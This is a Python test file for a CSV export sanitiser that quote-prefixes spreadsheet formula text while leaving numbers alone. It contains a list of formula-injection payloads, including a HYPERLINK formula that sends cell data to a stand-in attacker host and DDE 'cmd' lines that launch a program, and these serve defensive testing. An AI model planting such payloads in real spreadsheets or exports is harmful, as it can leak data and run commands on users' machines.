"""CSV formula injection: text cells a spreadsheet would evaluate are neutralised, real numbers are kept."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from reports.csv_safety import neutralise_cell, neutralise_formulas, safe_csv_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_leading_text_gets_a_quote_prefix(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["-1.5", "+3", "-2e-3", ".5", "42"])
def test_text_that_is_just_a_number_is_left_alone(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("text", ["male", "<=50K", "a=b", "", "Île-de-France"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise_cell(text) == text


def test_frame_cells_header_and_index_are_neutralised_numbers_untouched():
    frame = pd.DataFrame(
        {
            "group": ["=cmd()", "male", "@x"],
            "=evil": [-1.0, 0.5, np.nan],
            "count": [-3, 4, 5],
            "cat": pd.Categorical(["+x", "y", "+x"]),
            "s": pd.array(["-a", None, "b"], dtype="string"),
        },
        index=pd.Index(["=i", "j", "k"]),
    )
    out = neutralise_formulas(frame)
    assert out["group"].tolist() == ["'=cmd()", "male", "'@x"]
    assert list(out.columns) == ["group", "'=evil", "count", "cat", "s"]
    assert out["'=evil"].tolist()[:2] == [-1.0, 0.5] and out["'=evil"].dtype == float
    assert out["count"].tolist() == [-3, 4, 5] and out["count"].dtype == frame["count"].dtype
    assert out["cat"].tolist() == ["'+x", "y", "'+x"]
    assert out["s"].tolist()[0] == "'-a" and pd.isna(out["s"].tolist()[1])
    assert out.index.tolist() == ["'=i", "j", "k"]
    assert frame["group"].tolist()[0] == "=cmd()"  # the input is not modified


def test_safe_csv_bytes_has_no_cell_starting_a_formula():
    frame = pd.DataFrame({"group": PAYLOADS, "rate": np.linspace(-1, 1, len(PAYLOADS))})
    data = safe_csv_bytes(frame)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == ["group", "rate"]
    for group, rate in rows[1:]:
        assert group.startswith("'")
        float(rate)  # numbers are written as numbers, negative ones without a prefix
    assert rows[1][1] == "-1.0"
    back = pd.read_csv(io.BytesIO(data))
    assert back["group"].str[1:].tolist() == PAYLOADS  # the quote is the only change
